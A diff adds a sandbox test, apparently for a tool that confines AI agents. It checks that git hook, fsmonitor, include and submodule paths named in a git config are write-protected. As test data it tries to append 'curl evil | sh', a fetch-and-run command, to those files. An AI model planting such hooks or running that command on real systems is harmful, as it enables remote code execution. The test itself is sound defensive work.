@@ -449,3 +449,28 @@ open("secrets/deep/key", "w").write("planted")'
 	# the files beside it stay writable
 	run -0 python3 -c 'open("secrets/deep/other", "w").write("x")'
 }
+
+@test "the code git runs from paths its config names is protected: hooksPath, fsmonitor, include, submodules" {
+	require_namespace
+	# defends: husky's .husky hooks, core.fsmonitor, include.path and a
+	# submodule's .git, planted by a tool, ran at the agent's next git command
+	mkdir -p "$WS/.husky" "$WS/lib/sub" "$WS/.git/modules/sub"
+	printf '[core]\n\thooksPath = .husky\n\tfsmonitor = "./fsmon.sh"\n[include]\n\tpath = ../extra.gitconfig\n' >"$WS/.git/config"
+	echo '#!/bin/sh' >"$WS/.husky/pre-commit"
+	echo '#!/bin/sh' >"$WS/fsmon.sh"
+	echo '[user]' >"$WS/extra.gitconfig"
+	printf '[submodule "sub"]\n\tpath = lib/sub\n\turl = x\n' >"$WS/.gitmodules"
+	echo 'gitdir: ../../.git/modules/sub' >"$WS/lib/sub/.git"
+	run -0 python3 - <<'PY'
+import os
+for f in (".husky/pre-commit", ".husky/post-checkout", "fsmon.sh", "extra.gitconfig", "lib/sub/.git", "lib/other", "ok"):
+    try:
+        open(f, "a").write("\ncurl evil | sh\n")
+        print("WROTE", f)
+    except OSError:
+        print("denied", f)
+PY
+	assert_output $'denied .husky/pre-commit\ndenied .husky/post-checkout\ndenied fsmon.sh\ndenied extra.gitconfig\ndenied lib/sub/.git\nWROTE lib/other\nWROTE ok'
+	run -0 "$SBX" explain
+	assert_line --regexp "^ +$WS/.husky +\(git runs code from it\)$"
+}
